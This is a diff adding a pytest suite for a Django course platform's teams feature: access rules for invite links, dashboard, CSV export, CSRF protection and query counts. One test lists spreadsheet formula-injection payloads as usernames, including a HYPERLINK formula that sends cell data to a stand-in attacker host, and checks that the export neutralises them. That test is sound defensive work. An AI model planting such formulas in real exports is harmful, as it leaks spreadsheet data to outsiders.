@@ -1,0 +1,758 @@
+"""Teams: invite links, the instructor's dashboard and member page, CSV export, who sees what.
+
+Every teams URL is checked for six kinds of visitor; outsiders get a 404 (never a 403) so that
+team slugs and member names do not leak. The dashboard and export must cost the same number of
+queries for 3 members as for 60, and for 2 lessons as for 7.
+"""
+
+import csv
+import io
+import re
+from datetime import timedelta
+
+import pytest
+from django.contrib.auth.models import Group
+from django.db import connection
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+
+from lessons.models import Course, Lesson, Section, SectionProgress
+from quizzes.models import Attempt, Quiz
+from teams.instructors import GROUP_NAME
+from teams.models import Membership, Team
+from teams.services import membership_join, team_create
+
+pytestmark = pytest.mark.django_db
+
+PASSWORD = "correct-horse-9"
+
+
+# --- fixtures ---
+
+
+def make_instructor(django_user_model, username: str):
+    user = django_user_model.objects.create_user(username, f"{username}@example.com", PASSWORD)
+    user.is_staff = True
+    user.save()
+    user.groups.add(Group.objects.get(name=GROUP_NAME))
+    return user
+
+
+@pytest.fixture
+def instructor(django_user_model):
+    return make_instructor(django_user_model, "ines")
+
+
+@pytest.fixture
+def other_instructor(django_user_model):
+    return make_instructor(django_user_model, "otto")
+
+
+@pytest.fixture
+def team(mini_course, instructor, learner):
+    team = team_create(
+        name="Platform team", slug="platform", courses=[mini_course], creator=instructor
+    )
+    membership_join(team=team, user=learner)
+    return team
+
+
+@pytest.fixture
+def other_team(mini_course, other_instructor, other_learner):
+    team = team_create(
+        name="Payments squad", slug="payments", courses=[mini_course], creator=other_instructor
+    )
+    membership_join(team=team, user=other_learner)
+    return team
+
+
+@pytest.fixture
+def superuser(django_user_model):
+    return django_user_model.objects.create_superuser("root", "root@example.com", PASSWORD)
+
+
+def client_for(user) -> Client:
+    client = Client()
+    if user is not None:
+        client.force_login(user)
+    return client
+
+
+def read(user, lesson_slug: str, *section_slugs: str, when=None) -> None:
+    for slug in section_slugs:
+        section = Section.objects.get(lesson__slug=lesson_slug, slug=slug)
+        SectionProgress.objects.create(user=user, section=section, read_at=when or timezone.now())
+
+
+def finish_attempt(user, quiz_slug: str, score: int, total: int, when=None) -> Attempt:
+    """A finished attempt, started five minutes before `when` (started_at is auto_now_add)."""
+    attempt = Attempt.objects.create(user=user, quiz=Quiz.objects.get(slug=quiz_slug))
+    finished = when or timezone.now()
+    Attempt.objects.filter(pk=attempt.pk).update(
+        started_at=finished - timedelta(minutes=5), finished_at=finished, score=score, total=total
+    )
+    attempt.refresh_from_db()
+    return attempt
+
+
+# --- who sees what: every URL × six kinds of visitor ---
+
+VISITORS = [
+    "anonymous",
+    "learner_member",
+    "learner_other",
+    "instructor_other",
+    "instructor",
+    "superuser",
+]
+
+
+@pytest.fixture
+def people(team, other_team, learner, other_learner, instructor, other_instructor, superuser):
+    return {
+        "anonymous": None,
+        "learner_member": learner,
+        "learner_other": other_learner,
+        "instructor_other": other_instructor,
+        "instructor": instructor,
+        "superuser": superuser,
+    }
+
+
+MANAGER_PAGES = {
+    "dashboard": lambda team: reverse("team-dashboard", args=[team.slug]),
+    "member": lambda team: reverse("team-member", args=[team.slug, "ada"]),
+    "export": lambda team: reverse("team-export", args=[team.slug]),
+}
+
+
+@pytest.mark.parametrize("page", sorted(MANAGER_PAGES))
+@pytest.mark.parametrize("who", VISITORS)
+def test_manager_pages_are_for_the_teams_instructors_and_superusers(people, team, page, who):
+    url = MANAGER_PAGES[page](team)
+    response = client_for(people[who]).get(url)
+    if who == "anonymous":
+        assert response.status_code == 302
+        assert response["Location"] == f"{reverse('login')}?next={url}"
+    elif who in {"instructor", "superuser"}:
+        assert response.status_code == 200
+    else:
+        assert response.status_code == 404
+        html = response.content.decode()
+        assert "Platform team" not in html
+        assert team.invite_token not in html and "member-cell" not in html
+
+
+@pytest.mark.parametrize("page", sorted(MANAGER_PAGES))
+@pytest.mark.parametrize("who", VISITORS)
+def test_a_missing_team_looks_exactly_like_a_forbidden_one(people, page, who):
+    """Nobody can tell from the response whether a slug exists."""
+
+    class Missing:
+        slug = "no-such-team"
+
+    client = client_for(people[who])
+    missing = client.get(MANAGER_PAGES[page](Missing))
+    if who == "superuser":
+        assert missing.status_code == 404
+        return
+    hidden = Team.objects.get(slug="payments" if who == "instructor" else "platform")
+    existing = client.get(MANAGER_PAGES[page](hidden))
+    assert existing.status_code == missing.status_code
+    assert existing.status_code == (302 if who == "anonymous" else 404)
+    if existing.status_code == 404:
+        assert without_csrf(existing.content) == without_csrf(missing.content)
+
+
+def without_csrf(html: bytes) -> bytes:
+    return re.sub(rb'(csrfmiddlewaretoken" value="|x-csrftoken": ")[^"]+', rb"\1", html)
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_member_page_of_someone_outside_the_team_is_404_even_for_its_instructor(people, team, who):
+    url = reverse("team-member", args=[team.slug, "bob"])  # bob is in the other team
+    response = client_for(people[who]).get(url)
+    assert response.status_code == (302 if who == "anonymous" else 404)
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_regenerating_the_invite_link_is_for_the_teams_instructors_only(people, team, who):
+    old = team.invite_token
+    url = reverse("team-regenerate-invite", args=[team.slug])
+    response = client_for(people[who]).post(url)
+    team.refresh_from_db()
+    if who in {"instructor", "superuser"}:
+        assert response.status_code == 302
+        assert response["Location"] == team.get_absolute_url()
+        assert team.invite_token != old
+    else:
+        assert response.status_code == (302 if who == "anonymous" else 404)
+        assert team.invite_token == old
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_regenerate_refuses_get(people, team, who):
+    response = client_for(people[who]).get(reverse("team-regenerate-invite", args=[team.slug]))
+    assert response.status_code in ({302} if who == "anonymous" else {404, 405})
+    if who in {"instructor", "superuser"}:
+        assert response.status_code == 405
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_invite_link_page(people, team, who):
+    url = team.get_invite_url()
+    response = client_for(people[who]).get(url)
+    if who == "anonymous":
+        assert response.status_code == 302
+        assert response["Location"] == f"{reverse('login')}?next={url}"
+        return
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "Platform team" in html
+    if who in {"learner_member", "instructor"}:
+        assert "already in this team" in html
+    else:
+        assert 'type="submit" class="button">Join the team' in html
+    assert Membership.objects.filter(team=team).count() == 2  # opening the link joins no one
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_invalid_or_revoked_invite_link_is_404_for_everyone(people, team, who):
+    revoked = team.get_invite_url()
+    client_for(people["instructor"]).post(reverse("team-regenerate-invite", args=[team.slug]))
+    for url in [revoked, reverse("team-join", args=["not-a-token"])]:
+        for method in ("get", "post"):
+            response = getattr(client_for(people[who]), method)(url)
+            assert response.status_code == 404
+            assert "Platform team" not in response.content.decode()
+    assert Membership.objects.filter(team=team).count() == 2
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_team_list_shows_only_your_own_teams(people, who):
+    response = client_for(people[who]).get(reverse("team-list"))
+    if who == "anonymous":
+        assert response.status_code == 302
+        return
+    html = response.content.decode()
+    assert response.status_code == 200
+    sees = {
+        "learner_member": {"Platform team"},
+        "learner_other": {"Payments squad"},
+        "instructor_other": {"Payments squad"},
+        "instructor": {"Platform team"},
+        "superuser": {"Platform team", "Payments squad"},
+    }[who]
+    for name in ["Platform team", "Payments squad"]:
+        assert (name in html) == (name in sees), name
+    # Only those who run a team get a link to its dashboard.
+    assert ('href="/teams/platform/"' in html) == (who in {"instructor", "superuser"})
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_new_team_page_is_for_instructors(people, who):
+    response = client_for(people[who]).get(reverse("team-new"))
+    expected = {"anonymous": 302, "instructor": 200, "instructor_other": 200, "superuser": 200}
+    assert response.status_code == expected.get(who, 403)
+
+
+@pytest.mark.parametrize("who", VISITORS)
+def test_home_shows_only_your_teams(people, who):
+    html = client_for(people[who]).get("/").content.decode()
+    in_platform = who in {"learner_member", "instructor"}
+    in_payments = who in {"learner_other", "instructor_other"}
+    assert ("Platform team" in html) == in_platform
+    assert ("Payments squad" in html) == in_payments
+
+
+# --- joining ---
+
+
+def test_learner_joins_with_a_post_and_sees_the_team_and_its_courses_on_home(team, other_learner):
+    client = client_for(other_learner)
+    response = client.post(team.get_invite_url())
+    assert response.status_code == 302 and response["Location"] == reverse("home")
+    membership = Membership.objects.get(team=team, user=other_learner)
+    assert membership.role == Membership.Role.LEARNER
+    home = client.get("/").content.decode()
+    assert "Your teams" in home and "Platform team" in home
+    section = home.split('id="teams-title"')[1].split("</section>")[0]
+    assert "A small mesh course" in section
+    assert "/teams/platform/" not in section  # a learner gets no dashboard link
+
+
+def test_joining_twice_is_a_noop_and_never_demotes_an_instructor(team, learner, instructor):
+    client_for(learner).post(team.get_invite_url())
+    client_for(instructor).post(team.get_invite_url())
+    assert Membership.objects.filter(team=team).count() == 2
+    assert Membership.objects.get(team=team, user=instructor).role == "instructor"
+
+
+def test_join_needs_a_csrf_token(team, other_learner):
+    strict = Client(enforce_csrf_checks=True)
+    strict.force_login(other_learner)
+    assert strict.post(team.get_invite_url()).status_code == 403
+    assert not Membership.objects.filter(user=other_learner, team=team).exists()
+
+
+def test_regenerate_needs_a_csrf_token(team, instructor):
+    strict = Client(enforce_csrf_checks=True)
+    strict.force_login(instructor)
+    old = team.invite_token
+    assert strict.post(reverse("team-regenerate-invite", args=[team.slug])).status_code == 403
+    team.refresh_from_db()
+    assert team.invite_token == old
+
+
+def test_visitor_is_sent_to_log_in_and_can_sign_up_then_return(team, client):
+    url = team.get_invite_url()
+    login_page = client.get(url, follow=True)
+    assert login_page.request["PATH_INFO"] == reverse("login")
+    assert f'href="{reverse("signup")}?next={url}"' in login_page.content.decode()
+    response = client.post(
+        f"{reverse('signup')}?next={url}",
+        {
+            "username": "newbie",
+            "password1": PASSWORD + "x",
+            "password2": PASSWORD + "x",
+            "next": url,
+        },
+    )
+    assert response.status_code == 302 and response["Location"] == url
+    assert "Join the team" in client.get(url).content.decode()
+    client.post(url)
+    assert Membership.objects.filter(team=team, user__username="newbie").exists()
+
+
+def test_regenerated_link_works_and_the_old_one_does_not(team, instructor, other_learner):
+    old_url = team.get_invite_url()
+    client_for(instructor).post(reverse("team-regenerate-invite", args=[team.slug]))
+    team.refresh_from_db()
+    assert team.get_invite_url() != old_url
+    learner_client = client_for(other_learner)
+    assert learner_client.post(old_url).status_code == 404
+    assert learner_client.post(team.get_invite_url()).status_code == 302
+    assert Membership.objects.filter(team=team, user=other_learner).exists()
+
+
+def test_invite_token_is_long_and_random(mini_course, instructor):
+    a = team_create(name="A", slug="a", courses=[], creator=instructor)
+    b = team_create(name="B", slug="b", courses=[], creator=instructor)
+    assert a.invite_token != b.invite_token
+    assert len(a.invite_token) >= 32
+
+
+# --- creating a team ---
+
+
+def test_instructor_creates_a_team_and_becomes_its_instructor(mini_course, instructor):
+    client = client_for(instructor)
+    response = client.post(
+        reverse("team-new"), {"name": "SRE guild", "slug": "", "courses": [mini_course.pk]}
+    )
+    team = Team.objects.get(name="SRE guild")
+    assert response.status_code == 302 and response["Location"] == "/teams/sre-guild/"
+    assert list(team.courses.all()) == [mini_course]
+    assert Membership.objects.get(team=team, user=instructor).role == "instructor"
+    dashboard = client.get(response["Location"]).content.decode()
+    assert f"http://testserver/teams/join/{team.invite_token}/" in dashboard
+
+
+@pytest.mark.parametrize(
+    ("slug", "message"),
+    [
+        ("new", "reserved"),
+        ("join", "reserved"),
+        ("Not A Slug", "slug"),
+        ("platform", "already exists"),
+    ],
+)
+def test_new_team_form_says_what_to_fix(team, instructor, slug, message):
+    response = client_for(instructor).post(reverse("team-new"), {"name": "X", "slug": slug})
+    assert response.status_code == 200
+    assert message in response.content.decode()
+    assert not Team.objects.filter(name="X").exists()
+
+
+def test_derived_slug_avoids_taken_and_reserved_slugs(team, instructor):
+    client = client_for(instructor)
+    client.post(reverse("team-new"), {"name": "Platform"})
+    client.post(reverse("team-new"), {"name": "New"})
+    assert Team.objects.filter(slug="platform-2").exists()
+    assert Team.objects.filter(slug="new-2").exists()
+
+
+def test_learner_cannot_create_a_team(learner):
+    assert client_for(learner).post(reverse("team-new"), {"name": "Mine"}).status_code == 403
+    assert not Team.objects.exists()
+
+
+def test_admin_team_created_by_an_instructor_is_theirs(
+    mini_course, instructor, other_instructor, team
+):
+    client = client_for(other_instructor)
+    response = client.post(
+        reverse("admin:teams_team_add"),
+        {
+            "name": "Admin-made",
+            "slug": "admin-made",
+            "courses": [mini_course.pk],
+            "memberships-TOTAL_FORMS": "0",
+            "memberships-INITIAL_FORMS": "0",
+            "memberships-MIN_NUM_FORMS": "0",
+            "memberships-MAX_NUM_FORMS": "1000",
+        },
+    )
+    assert response.status_code == 302, response.content.decode()[:2000]
+    made = Team.objects.get(slug="admin-made")
+    assert Membership.objects.get(team=made, user=other_instructor).role == "instructor"
+    assert client.get(made.get_absolute_url()).status_code == 200
+    # The admin lists only the teams an instructor runs; another team's page is not found.
+    changelist = client.get(reverse("admin:teams_team_changelist")).content.decode()
+    assert "Admin-made" in changelist and "Platform team" not in changelist
+    other = client.get(reverse("admin:teams_team_change", args=[team.pk]))
+    assert other.status_code == 302  # the admin's "does not exist" redirect, same as a bad id
+    assert team.invite_token not in other.content.decode()
+
+
+def test_admin_action_regenerates_invite_links(team, instructor):
+    old = team.invite_token
+    client_for(instructor).post(
+        reverse("admin:teams_team_changelist"),
+        {"action": "regenerate_invites", "_selected_action": [team.pk]},
+    )
+    team.refresh_from_db()
+    assert team.invite_token != old
+
+
+# --- the dashboard ---
+
+
+def dashboard(client, team, **params):
+    return client.get(reverse("team-dashboard", args=[team.slug]), params)
+
+
+def matrix_row(html: str, username: str) -> str:
+    match = re.search(
+        r'<tr class="[^"]*">\s*<th scope="row" class="member-cell">\s*'
+        rf'<a href="[^"]*">{re.escape(username)}</a>.*?</tr>',
+        html,
+        re.S,
+    )
+    assert match, f"no row for {username}"
+    return match.group(0)
+
+
+def test_dashboard_shows_status_scores_activity_and_completion(
+    team, learner, instructor, django_user_model
+):
+    carol = django_user_model.objects.create_user("carol", password=PASSWORD)
+    membership_join(team=team, user=carol)
+    earlier = timezone.now() - timedelta(days=2)
+    read(learner, "first", "intro", "routing", "wrap-up", when=earlier)  # first lesson done
+    read(learner, "second", "only", when=earlier)  # second lesson done too
+    read(carol, "first", "intro", when=earlier)  # carol: first lesson in progress
+    finish_attempt(learner, "mini-final", 1, 1, when=earlier - timedelta(hours=1))
+    finish_attempt(learner, "first-check", 0, 1, when=earlier + timedelta(hours=1))
+    latest = finish_attempt(learner, "first-check", 1, 1, when=earlier + timedelta(hours=2))
+
+    html = dashboard(client_for(instructor), team).content.decode()
+    ada = matrix_row(html, "ada")
+    assert ada.count("cell-completed") == 2
+    assert "100%" in ada  # completion
+    assert latest.finished_at.strftime("%-d %b %Y, %H:%M") in ada  # last activity
+    assert '100% <span class="meta">(2)</span>' in ada  # first-check: best of two attempts
+    carol_row = matrix_row(html, "carol")
+    assert "cell-in-progress" in carol_row and "1/3" in carol_row
+    assert "25%" in carol_row  # 1 of 4 sections
+    assert "never" not in carol_row
+    # Lesson 1 completed by one learner of two; the team read 5 of 8 sections.
+    footer = html.split("<tfoot>")[1]
+    team_percent = f"{round(100 * 5 / 8)}%"  # rounded as lessons.progress rounds
+    assert re.findall(r'<td class="num">([^<]+)</td>', footer)[:3] == [team_percent, "50%", "50%"]
+    assert f"{team_percent}</span> of the sections" in html
+    # The instructor is listed apart, after the learners, and does not count in completion.
+    assert _order(html) == ["ada", "carol", "ines"]
+
+
+def test_adding_a_section_reopens_a_lesson_on_the_dashboard_and_removing_one_closes_it(
+    team, learner, instructor
+):
+    read(learner, "first", "intro", "routing", "wrap-up")
+    client = client_for(instructor)
+    assert matrix_row(dashboard(client, team).content.decode(), "ada").count("cell-completed") == 1
+    lesson = Lesson.objects.get(slug="first")
+    added = Section.objects.create(lesson=lesson, slug="new-part", order=99, title="New part")
+    row = matrix_row(dashboard(client, team).content.decode(), "ada")
+    assert "cell-completed" not in row and "3/4" in row
+    added.delete()
+    Section.objects.get(slug="wrap-up").delete()  # its read mark goes with it
+    row = matrix_row(dashboard(client, team).content.decode(), "ada")
+    assert row.count("cell-completed") == 1
+
+
+def test_draft_lessons_and_unassigned_courses_are_not_columns(team, instructor):
+    Lesson.objects.filter(slug="second").update(published=False)
+    Course.objects.create(slug="other", title="Unassigned course", published=True)
+    html = dashboard(client_for(instructor), team).content.decode()
+    assert "First lesson" in html
+    assert "Second lesson" not in html
+    assert "Unassigned course" not in html
+
+
+def _order(html: str) -> list[str]:
+    body = html.split("<tbody>")[1].split("</tbody>")[0]
+    return re.findall(r'class="member-cell">\s*<a href="[^"]*">([^<]+)</a>', body)
+
+
+@pytest.fixture
+def sortable_team(team, learner, django_user_model):
+    now = timezone.now()
+    zed = django_user_model.objects.create_user("zed", password=PASSWORD)
+    cy = django_user_model.objects.create_user("Cy", password=PASSWORD)
+    for user in (zed, cy):
+        membership_join(team=team, user=user)
+    read(learner, "first", "intro", when=now - timedelta(days=3))  # ada: 1 section, oldest
+    read(zed, "first", "intro", "routing", when=now - timedelta(days=1))  # zed: 2, newest
+    finish_attempt(learner, "mini-final", 1, 1)  # ada: score 50 (mean of 100 and 0)
+    finish_attempt(zed, "first-check", 0, 1, when=now - timedelta(days=1))  # zed: 0
+    return team
+
+
+@pytest.mark.parametrize(
+    ("sort", "expected"),
+    [
+        ("name", ["ada", "Cy", "zed", "ines"]),
+        ("completion", ["zed", "ada", "Cy", "ines"]),
+        ("score", ["ada", "zed", "Cy", "ines"]),
+        ("nonsense", ["ada", "Cy", "zed", "ines"]),
+    ],
+)
+def test_dashboard_sorts_by_query_parameter(sortable_team, instructor, sort, expected):
+    html = dashboard(client_for(instructor), sortable_team, sort=sort).content.decode()
+    assert _order(html) == expected
+
+
+def test_dashboard_sorts_by_last_activity_newest_first(sortable_team, instructor):
+    html = dashboard(client_for(instructor), sortable_team, sort="activity").content.decode()
+    # ada's attempt just now is newer than zed's read a day ago; Cy never did anything.
+    assert _order(html) == ["ada", "zed", "Cy", "ines"]
+
+
+def test_sort_links_work_without_javascript_and_htmx_gets_only_the_table(team, instructor):
+    client = client_for(instructor)
+    html = dashboard(client, team).content.decode()
+    for key in ["name", "completion", "activity", "score"]:
+        assert f'href="?sort={key}" hx-get="?sort={key}"' in html
+    assert 'aria-sort="ascending"' in html
+    partial = client.get(
+        reverse("team-dashboard", args=[team.slug]), {"sort": "score"}, HTTP_HX_REQUEST="true"
+    )
+    body = partial.content.decode()
+    assert "<html" not in body and body.lstrip().startswith('<div id="member-table"')
+    assert 'aria-sort="descending"' in body
+    assert "HX-Request" in partial["Vary"]
+
+
+def test_member_detail_lists_sections_read_and_every_attempt(team, learner, instructor):
+    read(learner, "first", "intro")
+    finish_attempt(learner, "first-check", 1, 2)
+    Attempt.objects.create(user=learner, quiz=Quiz.objects.get(slug="mini-final"))  # still open
+    html = dashboard(client_for(instructor), team).content.decode()
+    assert 'href="/teams/platform/members/ada/"' in html
+    page = client_for(instructor).get("/teams/platform/members/ada/").content.decode()
+    assert 'Introduction — <span class="read-tick"' in page
+    assert 'Routing — <span class="muted">not read</span>' in page
+    assert "1/2 (50%)" in page
+    assert "in progress" in page
+
+
+def test_attempts_of_other_courses_and_other_teams_do_not_count(
+    team, learner, instructor, other_team
+):
+    other = Course.objects.create(slug="elsewhere", title="Elsewhere", published=True)
+    quiz = Quiz.objects.create(slug="elsewhere-quiz", title="Elsewhere quiz", course=other)
+    Attempt.objects.create(user=learner, quiz=quiz, finished_at=timezone.now(), score=1, total=1)
+    html = dashboard(client_for(instructor), team).content.decode()
+    assert "Elsewhere quiz" not in html
+    assert "never" in matrix_row(html, "ada")
+    assert "bob" not in _order(html)
+
+
+# --- CSV export ---
+
+
+def export(client, team, **params):
+    response = client.get(reverse("team-export", args=[team.slug]), params)
+    assert response.status_code == 200
+    return response
+
+
+def parse_csv(response) -> list[list[str]]:
+    raw = response.content
+    assert raw.startswith("\ufeff".encode())  # UTF-8 BOM, for Excel
+    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:])))
+
+
+def test_export_has_a_header_and_one_row_per_member(team, learner, instructor):
+    read(learner, "first", "intro", "routing", "wrap-up")
+    finish_attempt(learner, "first-check", 1, 1)
+    response = export(client_for(instructor), team)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="platform-progress.csv"'
+    rows = parse_csv(response)
+    header, *members = rows
+    assert header[:10] == [
+        "Username",
+        "Name",
+        "Role",
+        "Joined",
+        "Completion %",
+        "Sections read",
+        "Sections total",
+        "Last activity",
+        "Quiz score %",
+        "Quiz attempts",
+    ]
+    assert "A small mesh course / First lesson" in header
+    assert "Check the first lesson: best %" in header
+    assert [row[0] for row in members] == ["ada", "ines"]
+    ada = dict(zip(header, members[0], strict=True))
+    assert ada["Role"] == "Learner"
+    assert ada["Completion %"] == "75"
+    assert ada["Sections read"] == "3" and ada["Sections total"] == "4"
+    assert ada["A small mesh course / First lesson"] == "Completed"
+    assert ada["A small mesh course / Second lesson"] == "Not started"
+    assert ada["Check the first lesson: best %"] == "100"
+    assert ada["Check the first lesson: attempts"] == "1"
+    assert ada["Mini final: best %"] == "" and ada["Mini final: attempts"] == "0"
+    assert ada["Quiz score %"] == "50"
+    assert ada["Last activity"].startswith(str(timezone.now().year))
+
+
+def test_export_follows_the_dashboard_sort(sortable_team, instructor):
+    rows = parse_csv(export(client_for(instructor), sortable_team, sort="completion"))
+    assert [row[0] for row in rows[1:]] == ["zed", "ada", "Cy", "ines"]
+
+
+@pytest.mark.parametrize(
+    "username",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "@SUM(1+1)",
+        "+1-1",
+        "-2+3",
+        "\tTAB",
+        "\rCR",
+    ],
+)
+def test_export_is_safe_against_formula_injection(team, instructor, django_user_model, username):
+    user = django_user_model.objects.create_user(username, password=PASSWORD)
+    user.first_name = "=1+2"
+    user.save()
+    membership_join(team=team, user=user)
+    rows = parse_csv(export(client_for(instructor), team))
+    row = next(r for r in rows if r[0].endswith(username.lstrip("\t\r")) or r[0] == "'" + username)
+    assert row[0] == "'" + username
+    assert row[1] == "'=1+2"
+    for cells in rows:
+        for cell in cells:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cells
+
+
+def test_export_keeps_non_ascii_names(team, instructor, django_user_model):
+    user = django_user_model.objects.create_user("zoë", password=PASSWORD)
+    user.first_name, user.last_name = "Zoë", "Ñúñez"
+    user.save()
+    membership_join(team=team, user=user)
+    rows = parse_csv(export(client_for(instructor), team))
+    assert next(r for r in rows if r[0] == "zoë")[:2] == ["zoë", "Zoë Ñúñez"]
+
+
+# --- query counts ---
+
+
+def add_members(team, django_user_model, count: int, start: int = 0) -> None:
+    users = django_user_model.objects.bulk_create(
+        [django_user_model(username=f"member{n:03d}") for n in range(start, start + count)]
+    )
+    Membership.objects.bulk_create([Membership(team=team, user=user) for user in users])
+    sections = list(Section.objects.filter(lesson__course__teams=team))
+    quizzes = list(Quiz.objects.filter(course__teams=team))
+    now = timezone.now()
+    SectionProgress.objects.bulk_create(
+        [
+            SectionProgress(user=user, section=section, read_at=now)
+            for user in users
+            for section in sections[: 1 + user.id % len(sections)]
+        ]
+    )
+    Attempt.objects.bulk_create(
+        [
+            Attempt(user=user, quiz=quiz, finished_at=now, score=user.id % 2, total=1)
+            for user in users
+            for quiz in quizzes
+        ]
+    )
+
+
+def add_lessons(course, count: int) -> None:
+    for n in range(count):
+        lesson = Lesson.objects.create(
+            course=course, slug=f"extra-{n}", order=100 + n, title=f"Extra {n}", published=True
+        )
+        for s in range(3):
+            Section.objects.create(lesson=lesson, slug=f"s{s}", order=s, title=f"Part {s}")
+        Quiz.objects.create(
+            slug=f"extra-quiz-{n}", title=f"Extra quiz {n}", course=course, lesson=lesson
+        )
+
+
+@pytest.mark.parametrize("url_name", ["team-dashboard", "team-export"])
+def test_dashboard_and_export_query_counts_are_constant(
+    team, instructor, mini_course, django_user_model, django_assert_max_num_queries, url_name
+):
+    client = client_for(instructor)
+    url = reverse(url_name, args=[team.slug])
+    add_members(team, django_user_model, 1)  # 3 members: ada, ines and one more
+    assert team.memberships.count() == 3
+    with django_assert_max_num_queries(14) as small:
+        small_body = client.get(url).content.decode()
+    add_members(team, django_user_model, 57, start=1)
+    add_lessons(mini_course, 5)
+    assert team.memberships.count() == 60
+    with django_assert_max_num_queries(14) as large:
+        large_body = client.get(url, {"sort": "score"}).content.decode()
+    assert len(large.captured_queries) == len(small.captured_queries)
+    assert "member056" in large_body and "Extra 4" in large_body and "member056" not in small_body
+    counts = len(small.captured_queries), len(large.captured_queries)
+    print(f"{url_name}: {counts[0]} queries for 3 members, {counts[1]} for 60")  # for the report
+
+
+def test_member_page_query_count_does_not_grow_with_the_team(team, instructor, django_user_model):
+    client = client_for(instructor)
+    with CaptureQueriesContext(connection) as small:
+        client.get("/teams/platform/members/ada/")
+    add_members(team, django_user_model, 40)
+    with CaptureQueriesContext(connection) as large:
+        client.get("/teams/platform/members/ada/")
+    assert len(large.captured_queries) == len(small.captured_queries)
+
+
+def test_home_query_count_with_teams_is_constant(
+    team, learner, other_team, django_user_model, mini_course
+):
+    client = client_for(learner)
+    with CaptureQueriesContext(connection) as one:
+        client.get("/")
+    for n in range(4):
+        extra = team_create(
+            name=f"Extra {n}", slug=f"extra-{n}", courses=[mini_course], creator=learner
+        )
+        membership_join(team=extra, user=learner)
+    with CaptureQueriesContext(connection) as many:
+        html = client.get("/").content.decode()
+    assert "Extra 3" in html
+    assert len(many.captured_queries) == len(one.captured_queries)
